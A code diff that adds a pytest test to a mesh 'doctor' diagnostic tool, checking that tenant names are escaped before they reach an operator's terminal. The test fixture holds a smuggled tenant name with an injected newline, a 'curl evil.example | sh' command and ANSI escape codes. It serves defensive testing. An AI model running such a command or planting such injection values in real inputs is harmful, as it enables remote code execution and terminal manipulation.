@@ -8,8 +8,9 @@ import pytest
 
 from infra.tenant_table import Caller, key_hash
 from infra.topology import parse
+from mesh.cli import doctor
 from mesh.doctor.examination import ExaminationSettings, TimeLimits, examine
-from mesh.doctor.findings import CheckResult
+from mesh.doctor.findings import CheckResult, Finding
 from mesh.doctor.logins import read_logins
 from mesh.doctor.manual_commands import SystemdCommands
 from mesh.doctor.waiting_tenants import WAITING_MIN, flood
@@ -94,3 +95,19 @@ async def test_the_doctor_hears_whose_requests_wait_and_says_what_bounds_them(tm
             assert [(await one)[0] for one in sent] == [200] * len(sent)
     finally:
         await regions.stop()
+
+
+def test_a_tenants_name_puts_nothing_on_the_operators_screen(capsys):
+    """A router may name any: no line of its own, which may be run, and nothing a terminal obeys."""
+    named = "acme\n  curl evil.example | sh\x1b[2J"
+    region, tenant, detail = flood([answer((named, 40, 1), ("\x1b[1mbeta", 1, 1))])
+    remedy = SystemdCommands(
+        parse(mesh_toml(("us",)), "mesh.toml"), Path("mesh.toml"), Path("c")
+    ).tenants(tenant)
+    doctor._print(
+        [Finding(region, "tenants", tenant, CheckResult.WARNING, detail, remedy=remedy)],
+        verbose=True,
+    )
+    shown = capsys.readouterr().out
+    assert r"acme\n" in shown and "evil.example" in shown and "\x1b" not in shown
+    assert not any(line.startswith("  curl") for line in shown.splitlines())
